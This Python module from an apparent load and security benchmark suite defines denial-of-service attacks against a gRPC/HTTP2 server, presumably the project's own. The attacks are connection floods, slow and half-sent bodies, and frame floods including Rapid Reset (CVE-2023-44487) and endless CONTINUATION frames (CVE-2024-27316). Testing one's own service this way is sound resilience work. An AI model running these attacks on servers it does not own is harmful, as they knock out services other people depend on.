"""Attackers that have no name: connections that say nothing, or half, or too much."""

import asyncio
import ssl
import struct
from collections.abc import Awaitable, Callable
from contextlib import suppress
from functools import partial
from itertools import count

from benchmarks.attack.attack import AIM, Attack, Run, Tally, Victim, add
from benchmarks.attack.kinds.wire import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    PREFACE,
    RESET,
    SETTINGS,
    block_of,
)
from benchmarks.fuzz.senders.strangers import call_headers, frame

MANY = 5000
_HELLO_TO_HTTP2 = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0)
_STEP = "/cellar.v1.SessionService/Step"
_AT_ONCE = 200  # connections that are being made
_AGAIN_S = 0.5
_BURST = 200  # frames
_CALLS = 100  # on a connection
_LARGE = 4 << 20

Reader = asyncio.StreamReader
Writer = asyncio.StreamWriter
Mischief = Callable[[Victim, Reader, Writer, Tally], Awaitable[None]]


def _hello() -> bytes:
    """The first words of a TLS client."""
    comes, goes = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    client = context.wrap_bio(comes, goes, server_hostname="localhost")
    with suppress(ssl.SSLWantReadError):
        client.do_handshake()
    return goes.read()


def crowd(connections: int, mischief: Mischief, *, bare: bool = False) -> Run:
    """So many connections that do the same, within TLS or without; who is cut off comes again."""

    async def run(victim: Victim, tally: Tally, ending: asyncio.Event) -> None:
        places = asyncio.Semaphore(_AT_ONCE)
        now = asyncio.get_running_loop().time
        context = None if bare else victim.context()

        async def one() -> None:
            while not ending.is_set():
                try:
                    async with places:
                        reader, writer = await asyncio.open_connection(
                            victim.host, victim.port, ssl=context
                        )
                except OSError:
                    tally.refused += 1
                    await asyncio.sleep(_AGAIN_S)
                    continue
                tally.sent += 1
                tally.open += 1
                began_s = now()
                try:
                    with suppress(OSError):
                        await mischief(victim, reader, writer, tally)
                    tally.cut += 1
                    tally.held_s.append(now() - began_s)
                finally:
                    tally.open -= 1
                    writer.transport.abort()
                await asyncio.sleep(_AGAIN_S)

        tasks = [asyncio.create_task(one()) for _ in range(connections)]
        await ending.wait()
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)

    return run


async def _listen(reader: Reader) -> None:
    while await reader.read(65_536):
        pass


async def _say(
    first: bytes,
    victim: Victim,  # noqa: ARG001
    reader: Reader,
    writer: Writer,
    tally: Tally,  # noqa: ARG001
) -> None:
    writer.write(first)
    await _listen(reader)


def _headers(victim: Victim, *, is_known: bool) -> bytes:
    """Those of a call, with a token or without."""
    return block_of(_STEP, victim.token) if is_known else call_headers(_STEP)


async def _drip(
    is_known: bool, victim: Victim, reader: Reader, writer: Writer, tally: Tally
) -> None:
    """Calls whose message comes at a byte a second, on and on."""
    block = _headers(victim, is_known=is_known)
    begun = b"\0" + struct.pack(">I", 1 << 20)
    writer.write(_HELLO_TO_HTTP2)
    for stream in range(1, 2 * _CALLS, 2):
        writer.write(frame(HEADERS, END_HEADERS, stream, block))
        writer.write(frame(DATA, 0, stream, begun))
        tally.sent += 1
    listening = asyncio.create_task(_listen(reader))
    try:
        while not listening.done():
            for stream in range(1, 2 * _CALLS, 2):
                writer.write(frame(DATA, 0, stream, b"\0"))
            await writer.drain()
            await asyncio.sleep(1)
    finally:
        listening.cancel()


async def _hoard(
    is_known: bool, victim: Victim, reader: Reader, writer: Writer, tally: Tally
) -> None:
    """Large messages without their last byte."""
    listening = asyncio.create_task(_listen(reader))
    writer.write(_HELLO_TO_HTTP2)
    block, part = _headers(victim, is_known=is_known), bytes(16_384)
    try:
        for stream in range(1, 2 * _CALLS, 2):
            writer.write(frame(HEADERS, END_HEADERS, stream, block))
            writer.write(frame(DATA, 0, stream, b"\0" + struct.pack(">I", _LARGE + 1)))
            tally.sent += 1
            for _ in range(_LARGE // len(part)):
                writer.write(frame(DATA, 0, stream, part))
                await writer.drain()
        await listening
    finally:
        listening.cancel()


async def _flood(
    burst: Callable[[int], bytes],
    victim: Victim,  # noqa: ARG001
    reader: Reader,
    writer: Writer,
    tally: Tally,
) -> None:
    """Bursts of frames, as fast as they are taken."""
    listening = asyncio.create_task(_listen(reader))
    writer.write(_HELLO_TO_HTTP2)
    try:
        for number in count():
            writer.write(burst(number))
            await writer.drain()
            await asyncio.sleep(0)
            tally.sent += _BURST
            if listening.done():
                return
    finally:
        listening.cancel()


def _resets(number: int) -> bytes:
    """Calls that are broken off as soon as they have begun (CVE-2023-44487)."""
    block, found = call_headers(_STEP), b""
    for stream in range(_BURST * number, _BURST * (number + 1)):
        found += frame(HEADERS, END_HEADERS, 2 * stream + 1, block)
        found += frame(RESET, 0, 2 * stream + 1, struct.pack(">I", 8))
    return found


def _repeated(one: bytes, number: int) -> bytes:  # noqa: ARG001
    return one * _BURST


def _continuations(number: int) -> bytes:
    """A block of headers that never ends (CVE-2024-27316 and its like)."""
    more = frame(CONTINUATION, 0, 1, call_headers(_STEP)) * (_BURST - 1)
    if number:
        return more + frame(CONTINUATION, 0, 1, b"")
    return frame(HEADERS, 0, 1, call_headers(_STEP)) + more


_FLOODS: dict[str, tuple[str, Callable[[int], bytes]]] = {
    "rapid reset": ("calls that are reset at once", _resets),
    "pings": ("PING frames", partial(_repeated, frame(PING, 0, 0, bytes(8)))),
    "settings": ("SETTINGS frames", partial(_repeated, frame(SETTINGS, 0, 0))),
    "empty data": ("DATA frames of no bytes", partial(_repeated, frame(DATA, 0, 1))),
    "continuations": ("CONTINUATION frames without an end", _continuations),
}

_KNOWN = {"rapid reset", "settings"}
"""See docs/operations.md: what gRPC cannot do, somebody in front has to. Printed only."""

add(
    {
        "silent": Attack(
            says=f"{MANY:,} connections that say nothing",
            run=crowd(MANY, partial(_say, b""), bare=True),
        ),
        "hello": Attack(
            says=f"{MANY:,} that say a TLS hello and stop",
            run=crowd(MANY, partial(_say, _hello()), bare=True),
        ),
        "preface": Attack(
            says=f"{MANY:,} that finish TLS, say HTTP/2's preface and stop",
            run=crowd(MANY, partial(_say, PREFACE)),
        ),
        "idle": Attack(
            says=f"{MANY:,} that finish all handshakes and have no call",
            run=crowd(MANY, partial(_say, _HELLO_TO_HTTP2)),
        ),
        "slow bodies": Attack(
            says=f"10 without a token, {_CALLS} calls each that come a byte a second",
            run=crowd(10, partial(_drip, False)),
        ),
        "slow bodies, known": Attack(
            says=f"10 with a token, {_CALLS} calls each that come a byte a second",
            run=crowd(10, partial(_drip, True)),
        ),
        "half bodies": Attack(
            says=f"2 without a token, {_CALLS} calls of {_LARGE >> 20} MiB each, but a byte",
            run=crowd(2, partial(_hoard, False)),
        ),
        "half bodies, known": Attack(
            says=f"2 with a token, {_CALLS} calls of {_LARGE >> 20} MiB each, but a byte",
            run=crowd(2, partial(_hoard, True)),
        ),
        **{
            name: Attack(
                says=f"4 that send {says}",
                run=crowd(4, partial(_flood, burst)),
                aim=None if name in _KNOWN else AIM,
                most_failed=1.0 if name in _KNOWN else 0.0,
            )
            for name, (says, burst) in _FLOODS.items()
        },
    }
)
